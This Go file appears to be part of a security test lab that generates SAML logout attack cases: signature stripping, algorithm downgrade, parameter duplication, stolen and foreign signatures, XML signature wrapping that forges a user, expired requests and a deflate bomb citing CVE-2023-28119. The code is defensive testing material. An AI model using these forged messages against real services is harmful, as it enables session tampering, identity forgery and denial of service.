package attack

import (
	"crypto"
	"fmt"
	"net/url"
	"strings"
	"time"

	"github.com/anteroom-id/anteroom/lab/idp"
	"github.com/anteroom-id/anteroom/lab/idp/markup"
)

const (
	unsignedLogout = "a logout message that is not signed"
	brokenLogout   = "a logout message whose signature does not fit"
	twice          = "a parameter that is there twice"
	packed         = "a message that unpacks to more than one may weigh"
)

// logout is an honest request to end Ann's session, changed before it is signed.
func logout(name, tries, cause string, change func(l *idp.Logout)) Case {
	return Case{Class: "S8", Name: name, Tries: tries, Cause: cause, Kind: Logout, Make: func(g *Generator) (Message, error) {
		l := g.logout()
		if change != nil {
			change(l)
		}
		to, err := g.Provider.LogoutURL(l)
		return queryOf(to), err
	}}
}

func (g *Generator) logout() *idp.Logout {
	return &idp.Logout{ID: "_logout", Destination: g.SLO, NameID: g.Ann.UserPrincipalName, Session: "_session", Expires: g.Now.Add(5 * time.Minute)}
}

func queryOf(address string) Message {
	_, q, _ := strings.Cut(address, "?")
	return Message{Query: q}
}

// query is an honest request whose query was changed afterwards.
func query(name, tries, cause string, change func(q string) string) Case {
	c := logout(name, tries, cause, nil)
	honest := c.Make
	c.Make = func(g *Generator) (Message, error) {
		m, err := honest(g)
		m.Query = change(m.Query)
		return m, err
	}
	return c
}

// posted is a request of the POST binding, changed after it was signed.
func posted(name, tries, cause string, change func(g *Generator, e *markup.Element)) Case {
	return Case{Class: "S8", Name: name, Tries: tries, Cause: cause, Kind: Logout, Make: func(g *Generator) (Message, error) {
		e, err := g.Provider.LogoutElement(g.logout())
		if err != nil {
			return Message{}, err
		}
		change(g, e)
		return Message{Form: [][2]string{{"SAMLRequest", idp.Encode(e.String())}}}, nil
	}}
}

// logouts are the attacks on the redirect binding and on logout, S8.
func logouts() []Case {
	without := func(name string) func(string) string {
		return func(q string) string {
			var kept []string
			for _, pair := range strings.Split(q, "&") {
				if !strings.HasPrefix(pair, name+"=") {
					kept = append(kept, pair)
				}
			}
			return strings.Join(kept, "&")
		}
	}
	endless := logout("logout without an end", "a request that does not say how long it counts, made now", "", func(l *idp.Logout) { l.Expires = time.Time{} })
	endless.Class, endless.Legal = "legal", true
	good := logout("logout", "a request to end a session", "", nil)
	good.Class, good.Legal = "legal", true
	lower := query("logout in small letters", "escapes in small letters, as AD FS signs them", "", nil)
	lower.Class, lower.Legal = "legal", true
	lower.Make = func(g *Generator) (Message, error) { return g.lowerCase() }
	return []Case{
		good, lower, endless,
		query("unsigned request", "to sign Ann out without a key (GHSA-pcgw-qcv5-h8ch)", unsignedLogout, func(q string) string { return without("SigAlg")(without("Signature")(q)) }),
		query("no SigAlg", "a signature without its algorithm", "a redirect without an algorithm that is allowed", without("SigAlg")),
		query("SigAlg of SHA-1", "a signature by a weaker algorithm than it says", oldAlgorithm, func(q string) string {
			return strings.Replace(q, url.QueryEscape(markup.RSASHA256), url.QueryEscape(markup.RSASHA1), 1)
		}),
		query("RelayState added", "a parameter that was not signed", brokenLogout, func(q string) string { return strings.Replace(q, "&SigAlg", "&RelayState=x&SigAlg", 1) }),
		query("SAMLRequest twice", "a second request, of which each reader takes one", twice, func(q string) string { return q + "&SAMLRequest=x" }),
		query("SAMLRequest and SAMLResponse", "a message of both kinds", twice, func(q string) string { return q + "&SAMLResponse=x" }),
		stolenSignature(),
		bomb(), otherSigner(),
		posted("unsigned form", "a posted request without a signature", unsignedLogout, func(_ *Generator, e *markup.Element) { e.Remove(signatureOf(e)) }),
		posted("wrapped request", "the signed request within a forged one", strangeSignature, func(_ *Generator, e *markup.Element) {
			inner := e.Clone()
			sig := signatureOf(e)
			inner.Remove(signatureOf(inner))
			sig.Add(inner)
			e.Set("ID", "_evil")
			e.Find("NameID").Text = "mallory@acme.example"
		}),
		logout("for another address", "a request that went to another service", "a logout message for another address", func(l *idp.Logout) { l.Destination = elsewhere }),
		logout("over", "a request of an hour ago", "a logout message that has ended", func(l *idp.Logout) { l.Expires = l.Expires.Add(-time.Hour) }),
		logout("without an end", "a request of an hour ago that does not say how long it counts", "a logout message that has ended", func(l *idp.Logout) {
			l.Issued, l.Expires = l.Expires.Add(-time.Hour), time.Time{}
		}),
		logout("nobody", "a request about nobody", "a logout request without a name", func(l *idp.Logout) { l.NameID = "" }),
		logout("an answer to nothing", "a response that nobody asked for", "a logout response that nobody asked for", func(l *idp.Logout) { l.Status = []string{idp.Success} }),
		logout("an answer that says no", "a response that says that nothing was ended", "a logout response that says no", func(l *idp.Logout) {
			l.Status, l.InResponseTo = []string{idp.Responder}, "_ours"
		}),
	}
}

// bomb is a message that is small as long as it is packed.
func bomb() Case {
	return Case{Class: "S8", Name: "deflate bomb", Tries: "ten megabytes in ten kilobytes (CVE-2023-28119)", Cause: packed, Kind: Logout, Make: func(g *Generator) (Message, error) {
		to, err := g.Provider.RedirectURL(g.SLO, "SAMLRequest", strings.Repeat(" ", 10<<20), "")
		return queryOf(to), err
	}}
}

// stolenSignature is a request with the signature of another one.
func stolenSignature() Case {
	return Case{Class: "S8", Name: "signature of another message", Tries: "a signature that was stolen from another request", Cause: brokenLogout, Kind: Logout, Make: func(g *Generator) (Message, error) {
		l := g.logout()
		one, err := g.Provider.LogoutURL(l)
		if err != nil {
			return Message{}, err
		}
		l.NameID = g.Mallory.UserPrincipalName
		two, err := g.Provider.LogoutURL(l)
		text, _, _ := strings.Cut(queryOf(one).Query, "&Signature=")
		_, sig, _ := strings.Cut(two, "&Signature=")
		return Message{Query: text + "&Signature=" + sig}, err
	}}
}

// otherSigner is a request that a stranger has signed.
func otherSigner() Case {
	return Case{Class: "S8", Name: "signed by a stranger", Tries: "a request that another key has signed", Cause: brokenLogout, Kind: Logout, Make: func(g *Generator) (Message, error) {
		text, err := idp.Deflate(g.Provider.LogoutText(g.logout()))
		if err != nil {
			return Message{}, err
		}
		return g.signQuery("SAMLRequest="+url.QueryEscape(text), "evil")
	}}
}

// lowerCase signs a query whose escapes are in small letters.
func (g *Generator) lowerCase() (Message, error) {
	text, err := idp.Deflate(g.Provider.LogoutText(g.logout()))
	if err != nil {
		return Message{}, err
	}
	q := url.QueryEscape(text)
	for i := 0; i+2 < len(q); i++ {
		if q[i] == '%' {
			q = q[:i] + strings.ToLower(q[i:i+3]) + q[i+3:]
		}
	}
	return g.signQuery("SAMLRequest="+q, "own")
}

func (g *Generator) signQuery(q, key string) (Message, error) {
	q += "&SigAlg=" + url.QueryEscape(markup.RSASHA256)
	sig, err := markup.SignText(g.keys[key].key, crypto.SHA256, q)
	if err != nil {
		return Message{}, fmt.Errorf("sign a query: %w", err)
	}
	return Message{Query: q + "&Signature=" + url.QueryEscape(idp.Encode(string(sig)))}, nil
}
